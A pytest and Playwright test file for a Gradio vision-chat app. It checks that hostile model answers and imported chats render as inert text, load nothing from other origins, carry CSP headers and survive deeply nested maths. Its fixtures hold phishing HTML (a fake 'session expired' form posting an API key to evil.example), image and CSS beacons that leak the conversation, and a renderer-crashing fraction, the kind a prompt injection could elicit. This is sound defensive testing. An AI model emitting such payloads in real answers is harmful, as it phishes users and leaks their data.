"""Answers and imported chats that try to phish, leak or crash the tab: the page shows them as
text and links (maths too deep to render as code), loads nothing from another origin, and every
response carries the security headers.

A model answer (a prompt injection in an uploaded image is enough) or an imported conversation
may carry HTML: a full-page "session expired" form posting elsewhere, images, srcset, CSS url(),
<style>. In headless Chromium every request to a non-loopback origin is caught and counted.
"""

from __future__ import annotations

import json
from urllib.parse import urlsplit

import httpx
import pytest

from tests.conftest import AppProcess, make_image
from tests.fake_openai import FakeOpenAI, Reply

EVIL = "http://evil.example"
HOSTILE = f"""Your session has expired.

<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:#fff">
<form action="{EVIL}/steal" method="post"><h2>Session expired</h2>
<input name="key" placeholder="Re-enter your API key"><button>Sign in</button></form></div>

<img src="{EVIL}/pixel.png?q=the+conversation">
<img srcset="{EVIL}/srcset.png 1x" alt="s">
![chart]({EVIL}/markdown.png?leak=the+conversation "t")
![ref image][logo]
<span style="background-image:url({EVIL}/css.png)">styled</span>
<style>body {{ background: url({EVIL}/style.png) }}</style>
<input type="text" value="x"><button>press</button>

[logo]: {EVIL}/reference.png

Maths still works: $$a<b$$

Code stays code: `<b>not bold</b>` and

```html
<i>kept as code</i>
```

END-OF-ANSWER
"""
# Indented after its first line: Gradio dedents every message (inspect.cleandoc), so what reads
# as an indented code block here reaches the browser as plain HTML.
THINKING = f"""I should draw the form.

    <img src="{EVIL}/thinking.png"> ![t]({EVIL}/thinking-md.png)
    <div style="position:fixed;inset:0;background:red">cover</div>
    END-OF-THINKING"""

# Elements the answers must not have produced in any message, and a check that nothing in the
# chat escaped its bubble (Gradio's own chat has no fixed-position parts; its icons have <style>,
# its code blocks a copy button).
CHAT_PROBLEMS_JS = """() => {
  const chat = document.querySelector('#chat');
  const found = [];
  const made = 'form, input, button:not(.copy_code_button), style, iframe, object, embed';
  for (const el of chat.querySelectorAll(`.message-content :is(${made})`))
    found.push(el.tagName.toLowerCase());
  for (const el of chat.querySelectorAll('[style]'))
    if (/url\\(|fixed/i.test(el.getAttribute('style'))) found.push('style=' + el.getAttribute('style'));
  for (const el of chat.querySelectorAll('*'))
    if (getComputedStyle(el).position === 'fixed') found.push('fixed ' + el.tagName.toLowerCase());
  for (const el of chat.querySelectorAll('img, source'))
    for (const attr of ['src', 'srcset'])
      if ((el.getAttribute(attr) || '').includes('evil.example'))
        found.push(attr + '=' + el.getAttribute(attr));
  return found;
}"""


@pytest.fixture(autouse=True)
def _fresh(module_fake: FakeOpenAI) -> None:
    module_fake.reset()


def watched_context(browser, foreign: list[str], csp_errors: list[str]):
    """A browser context that lets loopback requests through and stops and records all others."""
    context = browser.new_context()

    def route(route) -> None:
        url = route.request.url
        if urlsplit(url).hostname in ("127.0.0.1", "localhost"):
            route.continue_()
        else:
            foreign.append(url)
            route.abort()

    context.route("**/*", route)
    context.on("console", lambda m: csp_errors.append(m.text)
               if "Content Security Policy" in m.text else None)
    return context


def open_chat(page, url: str):
    from playwright.sync_api import expect

    page.goto(url)
    box = page.locator("#chat-input textarea")
    expect(box).to_be_visible(timeout=30_000)
    return box


def expand(page, title: str) -> None:
    """Open a collapsed thinking block or notice by the arrow beside its title (the title itself
    may hold a link, which a click would follow)."""
    group = page.locator("#chat .thought-group", has_text=title).first
    group.locator("[role=button] .arrow").click()


def test_a_hostile_answer_shows_as_text_and_links_and_loads_nothing(app: AppProcess,
                                                                    module_fake: FakeOpenAI,
                                                                    browser, tmp_path):
    from playwright.sync_api import expect

    foreign: list[str] = []
    csp_errors: list[str] = []
    context = watched_context(browser, foreign, csp_errors)
    page = context.new_page()
    try:
        box = open_chat(page, app.url)
        module_fake.script(Reply(text=HOSTILE, reasoning=THINKING))
        image = make_image(tmp_path / "photo.png")
        page.locator("#chat-input input[type=file]").set_input_files(str(image))
        expect(page.locator("#chat-input img")).to_have_count(1, timeout=10_000)
        box.fill("What does the image say? <img src=" + EVIL + "/question.png>")
        box.press("Enter")
        chat = page.locator("#chat")
        expect(chat).to_contain_text("END-OF-ANSWER", timeout=20_000)
        expect(page.locator("#stats")).to_contain_text("tokens", timeout=10_000)
        assert page.evaluate(CHAT_PROBLEMS_JS) == []
        assert foreign == []
        expand(page, "Thinking")
        expect(chat).to_contain_text("END-OF-THINKING", timeout=10_000)
        assert page.evaluate(CHAT_PROBLEMS_JS) == []
        # The markup is shown as what it is, and the images as links one may choose to follow.
        expect(chat).to_contain_text('<form action="http://evil.example/steal" method="post">')
        expect(chat).to_contain_text("<img src=http://evil.example/question.png>")
        for url in ("/markdown.png?leak=the+conversation", "/reference.png", "/thinking-md.png"):
            expect(chat.locator(f'a[href="{EVIL}{url}"]')).to_be_visible()
        # Maths and code are untouched.
        expect(chat.locator(".katex").first).to_be_visible()
        expect(chat.locator("pre code")).to_contain_text("<i>kept as code</i>")
        expect(chat.locator("code", has_text="<b>not bold</b>")).to_have_count(1)
        assert foreign == []
        assert csp_errors == []
    finally:
        context.close()


def test_a_hostile_imported_chat_shows_as_text_and_loads_nothing(app: AppProcess, browser, tmp_path):
    from playwright.sync_api import expect

    document = {"format": "glm-vision-chat", "version": 1, "settings": {}, "messages": [
        {"role": "user", "content": [{"type": "text", "text": "<img src=" + EVIL + "/user.png>"}]},
        {"role": "assistant", "content": [{"type": "text", "text": THINKING}],
         "metadata": {"title": f"<img src={EVIL}/title.png> Reasoning", "status": "done"}},
        {"role": "assistant", "content": [{"type": "text", "text": HOSTILE}]},
    ]}
    exported = tmp_path / "hostile.json"
    exported.write_text(json.dumps(document), "utf-8")
    foreign: list[str] = []
    csp_errors: list[str] = []
    context = watched_context(browser, foreign, csp_errors)
    page = context.new_page()
    try:
        open_chat(page, app.url)
        with page.expect_file_chooser() as chooser:
            page.locator("#import").click()
        chooser.value.set_files(str(exported))
        chat = page.locator("#chat")
        expect(chat).to_contain_text("END-OF-ANSWER", timeout=10_000)
        assert page.evaluate(CHAT_PROBLEMS_JS) == []
        assert foreign == []
        expand(page, "Reasoning")
        expect(chat).to_contain_text("END-OF-THINKING", timeout=10_000)
        assert page.evaluate(CHAT_PROBLEMS_JS) == []
        expect(chat).to_contain_text(f"<img src={EVIL}/user.png>")
        expect(chat).to_contain_text(f"<img src={EVIL}/title.png> Reasoning")
        expect(chat.locator(f'a[href="{EVIL}/markdown.png?leak=the+conversation"]')).to_be_visible()
        assert foreign == []
        assert csp_errors == []
    finally:
        context.close()


@pytest.mark.parametrize("where", ["page", "file"])
def test_every_response_carries_the_security_headers(app: AppProcess, tmp_path, where):
    with httpx.Client(base_url=app.url, timeout=30) as http:
        path = "/"
        if where == "file":
            image = make_image(tmp_path / "cat.png")
            stored = http.post("gradio_api/upload", files=[("files", ("cat.png", image.read_bytes()))])
            stored.raise_for_status()
            path = f"gradio_api/file={stored.json()[0]}"
        response = http.get(path)
    assert response.status_code == 200
    policy = response.headers.get("content-security-policy", "")
    for directive in ("img-src 'self' data: blob:", "form-action 'self'", "connect-src 'self'",
                      "frame-ancestors 'self' https://huggingface.co https://*.hf.space",
                      "object-src 'none'", "base-uri 'self'"):
        assert directive in policy
    assert response.headers.get("x-content-type-options") == "nosniff"


# Crashed Chromium's renderer as maths (the tab died, the conversation with it): 150 nested fractions.
DEEP_MATHS = "$$" + "\\frac{1}{" * 150 + "x" + "}" * 150 + "$$"


def _shows_deep_maths_as_code(page) -> None:
    from playwright.sync_api import expect

    chat = page.locator("#chat")
    expect(chat).to_contain_text("END-OF-ANSWER", timeout=20_000)
    expect(chat.locator("code", has_text="\\frac{1}{\\frac{1}{")).to_have_count(1)
    expect(chat.locator(".katex").first).to_be_visible()  # the ordinary maths beside it
    assert page.evaluate("() => document.querySelectorAll('#chat .katex').length") == 1
    page.mouse.wheel(0, 600)  # another layout: the tab is still there and answers
    assert page.evaluate("() => document.title") == "GLM Vision Chat"


@pytest.mark.parametrize("where", ["answer", "import"])
def test_maths_too_deep_to_render_shows_as_code_and_the_tab_survives(app: AppProcess,
                                                                     module_fake: FakeOpenAI,
                                                                     browser, tmp_path, where):
    text = f"Deep: {DEEP_MATHS}\n\nShallow: $$\\frac{{1}}{{2}}$$\n\nEND-OF-ANSWER"
    page = browser.new_page()
    crashed: list[bool] = []
    page.on("crash", lambda _: crashed.append(True))
    try:
        box = open_chat(page, app.url)
        if where == "answer":
            module_fake.script(Reply(text=text))
            box.fill("What is this fraction?")
            box.press("Enter")
        else:
            document = {"format": "glm-vision-chat", "version": 1, "settings": {}, "messages": [
                {"role": "user", "content": [{"type": "text", "text": "What is this fraction?"}]},
                {"role": "assistant", "content": [{"type": "text", "text": text}]}]}
            exported = tmp_path / "deep.json"
            exported.write_text(json.dumps(document), "utf-8")
            with page.expect_file_chooser() as chooser:
                page.locator("#import").click()
            chooser.value.set_files(str(exported))
        _shows_deep_maths_as_code(page)
        assert crashed == []
    finally:
        page.close()
